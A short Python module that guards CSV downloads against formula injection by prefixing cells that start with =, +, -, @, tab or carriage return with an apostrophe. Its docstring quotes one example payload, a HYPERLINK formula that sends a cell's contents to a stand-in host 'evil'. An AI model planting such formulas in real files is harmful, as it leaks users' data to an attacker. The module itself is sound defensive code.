"""CSV cells that a spreadsheet will not run as formulas (CSV/formula injection).

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or
``@`` (and, after trimming, a tab or carriage return): a subject key such as
``=HYPERLINK("http://evil/?"&A1,"x")`` would run on the committee's machine. Every CSV a user
downloads is written through :func:`safe_cell`, which prefixes such text with ``'`` (the
spreadsheets' own "this is text" mark, as OWASP recommends). Numbers stay numbers.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` itself, unless it is text a spreadsheet would read as a formula: then
    ``'`` + the text."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(row: Mapping[str, Any], fields: Iterable[str]) -> dict[str, Any]:
    """The ``fields`` of ``row`` with every cell passed through :func:`safe_cell`."""
    return {f: safe_cell(row.get(f)) for f in fields}
